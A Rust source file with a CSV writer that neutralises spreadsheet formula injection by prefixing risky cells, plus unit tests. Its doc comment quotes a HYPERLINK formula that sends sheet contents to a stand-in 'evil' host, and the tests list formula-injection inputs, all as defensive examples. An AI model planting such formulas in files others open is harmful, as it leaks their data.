//! Minimal RFC 4180 CSV writer: quotes a field only when it must, and
//! neutralises cells a spreadsheet would run as a formula. Every CSV file
//! voxtap writes goes through [`CsvWriter`].

use std::borrow::Cow;
use std::io::{self, Write};

pub struct CsvWriter<W: Write> {
    w: W,
}

impl<W: Write> CsvWriter<W> {
    pub fn new(w: W) -> Self {
        CsvWriter { w }
    }

    pub fn row<'a>(&mut self, fields: impl IntoIterator<Item = &'a str>) -> io::Result<()> {
        for (i, f) in fields.into_iter().enumerate() {
            if i > 0 {
                self.w.write_all(b",")?;
            }
            let f = safe_cell(f);
            if f.contains([',', '"', '\n', '\r']) {
                self.w.write_all(b"\"")?;
                self.w.write_all(f.replace('"', "\"\"").as_bytes())?;
                self.w.write_all(b"\"")?;
            } else {
                self.w.write_all(f.as_bytes())?;
            }
        }
        self.w.write_all(b"\r\n")
    }

    /// A row encoded by [`encode_row`].
    pub fn encoded(&mut self, line: &str) -> io::Result<()> {
        self.w.write_all(line.as_bytes())
    }

    pub fn get_mut(&mut self) -> &mut W {
        &mut self.w
    }

    pub fn into_inner(self) -> W {
        self.w
    }
}

/// A row as [`CsvWriter::row`] writes it (line end included), for rows
/// kept until they can be written: one allocation instead of one per cell.
pub fn encode_row<'a>(fields: impl IntoIterator<Item = &'a str>) -> Box<str> {
    let mut w = CsvWriter::new(Vec::new());
    // Writing to a Vec cannot fail.
    let _ = w.row(fields);
    String::from_utf8_lossy(&w.into_inner()).into()
}

/// A cell as it may go into a CSV file that someone opens in a spreadsheet.
///
/// Anything on the wire (a From user, a Call-ID, a Request-URI) ends up in
/// our CSV files, and a cell starting with `=`, `+`, `-`, `@`, tab or CR is
/// run as a formula by Excel, LibreOffice and Google Sheets (CSV injection):
/// `=HYPERLINK("http://evil/?"&A1,"x")` leaks the sheet when clicked. As
/// OWASP recommends, such a cell gets a leading `'`, which spreadsheets show
/// as text. The full-width forms (`＝＋－＠`) are treated alike (some
/// locales evaluate them). A plain number (`-3`, `+4930123`, `-0.5`) is
/// left alone: a spreadsheet reads it as a number, never as a formula, and
/// our numeric columns hold negative values.
pub fn safe_cell(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
    if risky && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `[+-]digits[.digits][e[+-]digits]`: what a spreadsheet takes as a number.
fn is_plain_number(s: &str) -> bool {
    let s = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (mantissa, exp) = match s.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e.strip_prefix(['+', '-']).unwrap_or(e))),
        None => (s, None),
    };
    let digits = |d: &str| !d.is_empty() && d.bytes().all(|b| b.is_ascii_digit());
    let mantissa_ok = match mantissa.split_once('.') {
        Some((a, b)) => (digits(a) && (b.is_empty() || digits(b))) || (a.is_empty() && digits(b)),
        None => digits(mantissa),
    };
    mantissa_ok && exp.is_none_or(digits)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quotes_only_when_needed() {
        let mut w = CsvWriter::new(Vec::new());
        w.row(["a", "b,c", "d\"e", ""]).unwrap();
        assert_eq!(w.into_inner(), b"a,\"b,c\",\"d\"\"e\",\r\n");
    }

    /// OWASP's formula starters are neutralised; numbers and ordinary text
    /// are written as they are.
    #[test]
    fn formulas_are_neutralised_numbers_are_not() {
        for (cell, want) in [
            (
                "=HYPERLINK(\"http://x\",\"y\")",
                "'=HYPERLINK(\"http://x\",\"y\")",
            ),
            ("+1-212-555", "'+1-212-555"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tcmd", "'\tcmd"),
            ("\rcmd", "'\rcmd"),
            ("＝1+1", "'＝1+1"),
            ("-", "'-"),
            ("+4930123", "+4930123"),
            ("-3", "-3"),
            ("-0.250", "-0.250"),
            ("+1e5", "+1e5"),
            ("alice", "alice"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(safe_cell(cell), want, "{cell:?}");
        }
        let mut w = CsvWriter::new(Vec::new());
        w.row(["=1+2,3", "-1"]).unwrap();
        assert_eq!(w.into_inner(), b"\"'=1+2,3\",-1\r\n");
    }
}
